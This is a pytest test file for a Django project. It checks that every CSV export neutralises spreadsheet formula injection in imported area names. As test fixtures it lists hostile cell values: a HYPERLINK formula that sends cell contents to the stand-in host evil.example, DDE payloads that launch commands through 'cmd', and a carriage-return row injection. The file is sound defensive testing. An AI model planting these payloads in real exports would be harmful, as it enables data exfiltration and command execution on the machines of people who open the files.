"""Formula cells ("CSV injection"): text imported from a file comes out of every CSV the project writes
as text, never as a formula a spreadsheet would run on the reader's machine.

Issue 8, item 3. One rule for every writer: ``mobility.core.tables.neutralise``.
"""

from __future__ import annotations

import csv
import io

import pytest

from mobility.core.tables import FORMULA_STARTS, neutralise

from .hostile import hostile_world_fixture, send  # noqa: F401 - the fixture

pytestmark = pytest.mark.django_db

# What a hostile file puts in a name: each one a formula in Excel, LibreOffice or Google Sheets.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ancuabe")',
    '=cmd|" /C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A carriage return inside a value: unquoted, it ends the row and the formula after it starts one.
CR_INJECTION = 'Ancuabe\r=HYPERLINK("http://evil.example","a row of its own")'

BENIGN = [
    "Ancuabe",
    "Mocímboa da Praia",
    "São Tomé – 2",
    "1-2",
    "a=b",
    " =not at the start? it is after a space",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text
    assert text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", [*BENIGN, 5, -3, 2.5, None, True])
def test_anything_else_is_left_alone(value):
    assert neutralise(value) == value


def parsed(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[dict], column: str, expected: set[str]) -> None:
    values = {row[column] for row in rows}
    assert values == expected
    assert not any(v.startswith(FORMULA_STARTS) for v in values)


def test_imported_area_names_come_out_of_the_api_csv_as_text(client, hostile_world):
    """A p-code table whose names are formulas, read back as the public API's CSV."""
    names = {f"MZ01{n:02d}": text for n, text in enumerate([*FORMULAS, CR_INJECTION], start=10)}
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # the file quotes its CRs: the names arrive whole
    writer.writerow(["ADM0_PT", "ADM0_PCODE", "ADM1_PT", "ADM1_PCODE", "ADM2_PT", "ADM2_PCODE"])
    for pcode, name in names.items():
        writer.writerow(["Moçambique", "MZ", "Cabo Delgado", "MZ01", name, pcode])
    outcome = send(hostile_world, "gazetteer.cod", "pcodes.csv", out.getvalue().encode())
    assert not outcome.failed, outcome.message
    stored = {name.strip() for name in names.values()}  # cells are read stripped of outer white space

    as_json = client.get("/api/v1/metadata/admin2", {"location_code": "MOZ", "limit": 100}).json()["data"]
    assert {row["name"] for row in as_json} == stored  # JSON: as imported, no spreadsheet reads it
    response = client.get("/api/v1/metadata/admin2", {"location_code": "MOZ", "output_format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = parsed(response.content)
    assert len(rows) == len(names)  # the CR did not start a row of its own
    assert_no_formula(rows, "name", {neutralise(name) for name in stored})


def test_imported_names_come_out_of_the_dashboard_csv_as_text(client, hostile_world):
    from mobility.gazetteer.models import AdminArea

    AdminArea.objects.filter(pcode="MZ0101").update(name=FORMULAS[0])  # as a COD import would store it
    rows = "admin1_code,admin2_code,admin2_name,population_group,households,individuals\nMZ01,MZ0101,x,IDP,3,12\n"
    outcome = send(hostile_world, "tracking.template", "round1.csv", rows.encode())
    assert not outcome.failed, outcome.message
    client.force_login(hostile_world.user)
    operation = hostile_world.operation
    response = client.get(
        f"/tracking/{operation.slug}/", {"format": "csv", "reporting_round": 1, "admin_level": 2}
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


class Printed:
    """A management command's stdout, as the command writes to it."""

    def __init__(self):
        self.text = ""

    def write(self, text, ending="\n"):
        self.text += text + ending


def test_the_restrictions_cli_csv_neutralises_point_names():
    from mobility.restrictions.cli import write_csv

    class Command:
        stdout = Printed()

    write_csv(Command, [{"name": name, "count": 5} for name in [*FORMULAS, CR_INJECTION]], ["name", "count"])
    rows = list(csv.DictReader(io.StringIO(Command.stdout.text, newline="")))
    assert [row["name"] for row in rows] == [neutralise(name) for name in [*FORMULAS, CR_INJECTION]]
    assert {row["count"] for row in rows} == {"5"}


def test_the_assistance_figures_csv_neutralises_area_names():
    from mobility.registration.assistance_figures import figures_csv

    names = [*FORMULAS, CR_INJECTION]
    text = figures_csv([{"admin1_name": n, "households": 3} for n in names], ["admin1_name", "households"])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["admin1_name"] for row in rows] == [neutralise(name) for name in names]
    assert {row["households"] for row in rows} == {"3"}
